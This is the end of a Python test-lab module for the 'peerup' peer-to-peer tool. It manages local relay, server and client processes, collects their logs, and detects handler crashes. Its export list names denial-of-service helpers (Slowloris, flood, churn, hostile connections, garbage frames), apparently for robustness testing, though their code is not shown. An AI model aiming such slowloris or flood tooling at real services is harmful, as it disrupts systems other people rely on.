    def pick(self, which: str) -> tuple[str, CliProc]:
        """``"relay"`` or ``"server"``: the address to attack (the server's direct port) and its process."""
        proc = self.relay if which == "relay" else self.server if which == "server" else None
        if proc is None:
            raise ValueError(f"{which!r} is not a running target (relay, server)")
        return (self.relay_addr if which == "relay" else self.server_direct), proc

    def ping(self, count: int = 1, timeout: float = 60.0) -> subprocess.CompletedProcess[str]:
        """``peerup ping <server>`` from the client home through the relay: a new, legitimate peer."""
        from peerup.testing import peerup_run

        args = ["--home", str(self.homes["client"]), "ping", self.ids["server"], "-c", str(count), "--interval", "0.2"]
        result: subprocess.CompletedProcess[str] = peerup_run([*args, "--relay", self.relay_addr], timeout=timeout)
        return result

    def stop(self) -> None:
        for proc in reversed(self.procs):
            proc.stop()
        if self.echo is not None:
            self.echo.close()

    def logs(self) -> str:
        """The tail of every process's stderr, for assertion messages."""
        return "\n".join(
            f"-- {p.name} (exit {p.popen.poll()}), last of {len(p.errors)} lines:\n" + "\n".join(p.errors[-15:])
            for p in self.procs
        )


def tracebacks(proc: CliProc) -> list[str]:
    """Lines of ``proc``'s stderr that start a Python traceback (a handler that crashed, not a refusal)."""
    return [line for line in proc.errors if "Traceback (most recent call last)" in line]


__all__ = [
    "BROKEN",
    "FRAME_PAYLOAD",
    "GARBAGE_KINDS",
    "IDENTIFY",
    "INITIAL_WINDOW",
    "LIBP2P_PING",
    "MULTISTREAM_HEADER",
    "PEERUP_PING",
    "ChurnStats",
    "DialFailed",
    "EchoService",
    "FloodResult",
    "HostileConnection",
    "Lab",
    "Slowloris",
    "SlowlorisStats",
    "Target",
    "Watch",
    "churn",
    "connect",
    "connect_once",
    "frame",
    "fresh_key_pair",
    "negotiation",
    "open_tcp",
    "probe",
    "process_fds",
    "process_rss",
    "tracebacks",
]
